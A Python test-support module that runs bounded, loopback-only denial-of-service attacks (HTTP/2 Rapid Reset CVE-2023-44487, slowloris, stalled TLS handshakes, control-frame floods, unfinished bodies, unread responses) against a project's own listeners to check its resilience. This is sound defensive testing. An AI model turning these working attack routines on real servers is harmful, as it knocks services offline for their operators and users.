"""Hostile peers of gas's listeners, for tests/integration/test_hostile_peers.py: each runs
against 127.0.0.1 for a bounded time in its own process (so that its CPU and its GIL are
not the tested client's) and prints what it saw as one JSON line.

    python -m tests.support.attacks ATTACK PORT SECONDS CA [CERT KEY]

CA "-" attacks a plain-HTTP port (the health port): no TLS, HTTP/1.1 only.

Every loop is bounded in count and in time, and every address is the loopback.
"""

from __future__ import annotations

import contextlib
import json
import socket
import ssl
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterator
from typing import Any

import h2.config
import h2.connection
import h2.events
import h2.exceptions

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ENHANCE_YOUR_CALM = 0xB
FILTER_BODY = json.dumps(
    {
        "Pod": {
            "metadata": {"name": "reset-me", "namespace": "default", "uid": "reset-me-uid"},
            "spec": {
                "containers": [{"name": "c", "resources": {"limits": {"gpu.intel.com/i915": "1"}}}]
            },
        },
        "NodeNames": ["demo-1card", "demo-2cards"],
    }
).encode()
MAX_CONNECTIONS = 400
"""No attack opens more connections than this at once."""


class Target:
    def __init__(self, port: int, ca: str, cert: str | None, key: str | None) -> None:
        self.port = port
        self.ca, self.cert, self.key = ca, cert, key
        self.plain = ca == "-"

    def tcp(self, timeout: float = 10.0) -> socket.socket:
        return socket.create_connection(("127.0.0.1", self.port), timeout=timeout)

    def tls(self, alpn: tuple[str, ...] = ("h2", "http/1.1")) -> Any:
        """A TLS connection offering `alpn`; on a plain port, a TCP connection."""
        if self.plain:
            return Plain(self.tcp())
        context = ssl.create_default_context(cafile=self.ca)
        if self.cert and self.key:
            context.load_cert_chain(self.cert, self.key)
        context.set_alpn_protocols(list(alpn))
        return context.wrap_socket(self.tcp(), server_hostname="127.0.0.1")


class Plain:
    """A TCP socket that answers as a TLS one without ALPN would."""

    def __init__(self, sock: socket.socket) -> None:
        self.sock = sock

    def selected_alpn_protocol(self) -> None:
        return None

    def __getattr__(self, name: str) -> Any:
        return getattr(self.sock, name)


def h2_socket(target: Target, deadline: float) -> ssl.SSLSocket | None:
    """A TLS connection that chose h2; where the server offers no h2, new handshakes one
    after another until `deadline` (a handshake flood instead), and None."""
    if target.plain:
        time.sleep(max(0.0, deadline - time.monotonic()))
        return None
    while True:
        sock: ssl.SSLSocket = target.tls()
        if sock.selected_alpn_protocol() == "h2":
            return sock
        sock.close()
        if time.monotonic() >= deadline:
            return None


def h2_connections(target: Target, deadline: float, tally: Tally) -> Iterator[ssl.SSLSocket]:
    """New h2 connections, one after another until `deadline`, each counted; none (and
    `h2` False in the tally) where the server offers no h2."""
    while time.monotonic() < deadline:
        sock = h2_socket(target, deadline)
        if sock is None:
            tally.counts["h2"] = False
            return
        tally.add("connections", 1)
        yield sock


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    length = len(payload)
    return struct.pack(">HBBBL", length >> 8, length & 0xFF, kind, flags, stream_id) + payload


def literal_block(fields: list[tuple[bytes, bytes]]) -> bytes:
    """An HPACK block of literals without indexing (no table state: the same bytes may be
    sent on every stream)."""
    out = bytearray()
    for name, value in fields:
        assert len(name) < 127 and len(value) < 127
        out += b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
    return bytes(out)


def filter_block(length: int) -> bytes:
    return literal_block(
        [
            (b":method", b"POST"),
            (b":scheme", b"https"),
            (b":path", b"/scheduler/filter"),
            (b":authority", b"gas"),
            (b"content-type", b"application/json"),
            (b"content-length", str(length).encode()),
        ]
    )


def closed_by_peer(sock: socket.socket) -> bool:
    """Whether the server closed `sock` (reads what is there without waiting)."""
    sock.setblocking(False)
    try:
        while True:
            data = sock.recv(65536)
            if not data:
                return True
    except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
        return False
    except (OSError, ssl.SSLError):
        return True
    finally:
        sock.setblocking(True)


def goaway_codes(data: bytes) -> list[int]:
    """The error codes of the GOAWAY frames in `data` (frames whole, from its start)."""
    codes = []
    offset = 0
    while offset + 9 <= len(data):
        length = int.from_bytes(data[offset : offset + 3], "big")
        kind = data[offset + 3]
        if kind == 0x7 and offset + 9 + 8 <= len(data):
            codes.append(int.from_bytes(data[offset + 13 : offset + 17], "big"))
        offset += 9 + length
    return codes


def read_all(sock: socket.socket, seconds: float) -> bytes:
    """What the server sends until it closes or `seconds` pass."""
    out = bytearray()
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        sock.settimeout(max(0.01, deadline - time.monotonic()))
        try:
            data = sock.recv(65536)
        except (TimeoutError, ssl.SSLError, OSError):
            break
        if not data:
            break
        out += data
    return bytes(out)


# ------------------------------------------------------------------ the attacks


def idle_h2(target: Target, seconds: float, count: int = 64) -> dict[str, Any]:
    """Connections that choose h2, send the preface, then nothing but a PING a second."""
    socks = []
    for _ in range(count):
        sock = h2_socket(target, time.monotonic() + seconds)
        if sock is None:
            return {"h2": False}
        sock.sendall(PREFACE + frame(0x4, 0, 0))
        socks.append(sock)
    closed = 0
    deadline = time.monotonic() + seconds
    while socks and time.monotonic() < deadline:
        time.sleep(1.0)
        for sock in list(socks):
            with contextlib.suppress(OSError):
                sock.sendall(frame(0x6, 0, 0, b"12345678"))
            if closed_by_peer(sock):
                closed += 1
                socks.remove(sock)
                sock.close()
    for sock in socks:
        sock.close()
    return {"h2": True, "opened": count, "closed_by_server": closed}


def held_open(target: Target, seconds: float, first: bytes, count: int) -> dict[str, Any]:
    """`count` TCP connections that send `first` and then nothing for `seconds`."""
    socks = []
    for _ in range(count):
        sock = target.tcp()
        if first:
            sock.sendall(first)
        socks.append(sock)
    time.sleep(seconds)
    closed = sum(closed_by_peer(sock) for sock in socks)
    for sock in socks:
        sock.close()
    return {"opened": count, "closed_by_server": closed}


def silent_tcp(target: Target, seconds: float, count: int = 300) -> dict[str, Any]:
    """TCP connections that send no byte."""
    return held_open(target, seconds, b"", count)


def stalled_tls(target: Target, seconds: float, count: int = 300) -> dict[str, Any]:
    """TLS handshakes that stop inside the ClientHello."""
    return held_open(target, seconds, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", count)


def slow_heads(target: Target, seconds: float, count: int = 300) -> dict[str, Any]:
    """Slowloris: request heads sent a byte a second, never finished."""
    head = b"POST /scheduler/filter HTTP/1.1\r\nHost: gas\r\nContent-Length: 10\r\nX-Slow: "
    socks = [target.tls(("http/1.1",)) for _ in range(count)]
    deadline = time.monotonic() + seconds
    sent = 0
    closed = 0
    while socks and time.monotonic() < deadline:
        for sock in list(socks):
            try:
                sock.sendall(head[sent % len(head) : sent % len(head) + 1])
            except OSError:
                closed += 1
                socks.remove(sock)
                sock.close()
        sent += 1
        time.sleep(1.0)
    closed += sum(closed_by_peer(sock) for sock in socks)
    for sock in socks:
        sock.close()
    return {"opened": count, "closed_by_server": closed}


def rapid_reset(target: Target, seconds: float, connections: int = 4) -> dict[str, Any]:
    """CVE-2023-44487: streams opened with a whole filter and reset at once, 20,000 per
    connection, reconnecting whenever the server closes."""
    tally = Tally({"resets_sent": 0, "connections": 0, "enhance_your_calm": 0, "h2": True})
    deadline = time.monotonic() + seconds
    block = filter_block(len(FILTER_BODY))

    def one() -> None:
        for sock in h2_connections(target, deadline, tally):
            sock.sendall(PREFACE + frame(0x4, 0, 0))
            stream = 1
            sent = 0
            try:
                while sent < 20_000 and time.monotonic() < deadline:
                    batch = bytearray()
                    for _ in range(100):
                        batch += frame(0x1, 0x4, stream, block)
                        batch += frame(0x0, 0x1, stream, FILTER_BODY)
                        batch += frame(0x3, 0, stream, struct.pack(">L", 0x8))
                        stream += 2
                    sock.sendall(batch)
                    sent += 100
                    tally.add("resets_sent", 100)
            except OSError:
                pass
            if ENHANCE_YOUR_CALM in goaway_codes(read_all(sock, 2.0)):
                tally.add("enhance_your_calm", 1)
            sock.close()

    run_threads(one, connections)
    return tally.counts


def unfinished_bodies(target: Target, seconds: float, connections: int = 3) -> dict[str, Any]:
    """64 streams a connection, each sending as much of an 8 MB body as the server's
    windows let it, never its end."""
    tally = Tally({"body_bytes_sent": 0, "h2": True})
    deadline = time.monotonic() + seconds
    chunk = b"x" * 16384

    def one() -> None:
        sock = h2_socket(target, deadline)
        if sock is None:
            tally.counts["h2"] = False
            return
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        conn.initiate_connection()
        sock.sendall(conn.data_to_send())
        conn.receive_data(read_all(sock, 0.5))
        head = [
            (":method", "POST"),
            (":scheme", "https"),
            (":path", "/scheduler/filter"),
            (":authority", "gas"),
            ("content-length", str(8_000_000)),
        ]
        ids = []
        for _ in range(64):
            stream_id = conn.get_next_available_stream_id()
            conn.send_headers(stream_id, head)
            ids.append(stream_id)
        sock.sendall(conn.data_to_send())
        sock.settimeout(0.2)
        try:
            while time.monotonic() < deadline:
                for stream_id in ids:
                    try:
                        room = conn.local_flow_control_window(stream_id)
                    except h2.exceptions.StreamClosedError:
                        continue
                    if room >= len(chunk):
                        conn.send_data(stream_id, chunk)
                        tally.add("body_bytes_sent", len(chunk))
                sock.sendall(conn.data_to_send())
                try:
                    data = sock.recv(65536)
                except TimeoutError:
                    continue
                if not data:
                    break
                conn.receive_data(data)
                sock.sendall(conn.data_to_send())
        except (OSError, h2.exceptions.ProtocolError):
            pass
        sock.close()

    run_threads(one, connections)
    return tally.counts


def control_flood(target: Target, seconds: float, connections: int = 2) -> dict[str, Any]:
    """SETTINGS and PING frames as fast as they go and never a byte read, reconnecting
    whenever the server closes."""
    tally = Tally({"frames_sent": 0, "connections": 0, "closed_by_server": 0, "h2": True})
    deadline = time.monotonic() + seconds
    batch = (frame(0x4, 0, 0) + frame(0x6, 0, 0, b"pingping")) * 500

    def one() -> None:
        for sock in h2_connections(target, deadline, tally):
            sock.settimeout(1.0)
            try:
                sock.sendall(PREFACE)
                while time.monotonic() < deadline:
                    sock.sendall(batch)
                    tally.add("frames_sent", 1000)
            except TimeoutError:
                pass  # the server stopped reading and did not close
            except OSError:
                tally.add("closed_by_server", 1)
            sock.close()

    run_threads(one, connections)
    return tally.counts


def never_reads(target: Target, seconds: float, connections: int = 4) -> dict[str, Any]:
    """Requests for /metrics sent on and on, HTTP/1.1 pipelined and over h2, their answers
    never read."""
    tally = Tally({"requests_sent": 0, "write_blocked": 0, "reset_by_server": 0})
    deadline = time.monotonic() + seconds
    path = b"/healthz" if target.plain else b"/metrics"
    http1 = (b"GET " + path + b" HTTP/1.1\r\nHost: gas\r\n\r\n") * 50
    block = literal_block(
        [
            (b":method", b"GET"),
            (b":scheme", b"https"),
            (b":path", path),
            (b":authority", b"g"),
        ]
    )

    def one(number: int) -> None:
        h2_wanted = number % 2 == 1
        sock = target.tls(("h2",) if h2_wanted else ("http/1.1",))
        use_h2 = sock.selected_alpn_protocol() == "h2"
        sock.settimeout(1.0)
        stream = 1
        try:
            if use_h2:
                sock.sendall(PREFACE + frame(0x4, 0, 0))
            while time.monotonic() < deadline:
                if use_h2:
                    data = b"".join(frame(0x1, 0x5, stream + 2 * n, block) for n in range(50))
                    stream += 100
                else:
                    data = http1
                sock.sendall(data)
                tally.add("requests_sent", 50)
        except TimeoutError:
            tally.add("write_blocked", 1)
        except OSError:
            tally.add("reset_by_server", 1)
        # Held, unread, to the end.
        time.sleep(max(0.0, deadline - time.monotonic()))
        sock.close()

    threads = [threading.Thread(target=one, args=(n,)) for n in range(connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return tally.counts


class Tally:
    """What an attack's threads saw, counted under one lock."""

    def __init__(self, counts: dict[str, Any]) -> None:
        self.counts = counts
        self._lock = threading.Lock()

    def add(self, key: str, count: int) -> None:
        with self._lock:
            self.counts[key] += count


def run_threads(work: Callable[[], None], count: int) -> None:
    threads = [threading.Thread(target=work) for _ in range(min(count, MAX_CONNECTIONS))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


ATTACKS: dict[str, Callable[[Target, float], dict[str, Any]]] = {
    "idle_h2": idle_h2,
    "silent_tcp": silent_tcp,
    "stalled_tls": stalled_tls,
    "slow_heads": slow_heads,
    "rapid_reset": rapid_reset,
    "unfinished_bodies": unfinished_bodies,
    "control_flood": control_flood,
    "never_reads": never_reads,
}


def main(argv: list[str]) -> int:
    name, port, seconds, ca, *pair = argv
    cert, key = [*pair, None, None][:2]
    target = Target(int(port), ca, cert, key)
    result = ATTACKS[name](target, min(float(seconds), 60.0))
    print(json.dumps(result), flush=True)
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
